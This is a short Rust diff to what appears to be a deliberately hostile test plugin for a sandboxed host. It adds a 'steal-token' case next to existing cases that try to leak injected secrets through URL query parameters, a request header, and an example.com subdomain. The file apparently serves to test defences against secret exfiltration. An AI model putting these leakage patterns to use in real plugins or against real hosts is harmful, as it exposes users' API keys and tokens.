@@ -170,6 +170,10 @@ impl Guest for Hostile {
                 format!("{target}?leak={{{{secret:api_key}}}}"),
                 vec![("x-leak".to_owned(), "{{secret:api_key}}".to_owned())],
             )),
+            "steal-token" => ok(fetch(
+                format!("{target}?token={{{{secret:token}}}}"),
+                Vec::new(),
+            )),
             "secret-host" => ok(fetch(
                 "http://{{secret:api_key}}.example.com/".to_owned(),
                 Vec::new(),
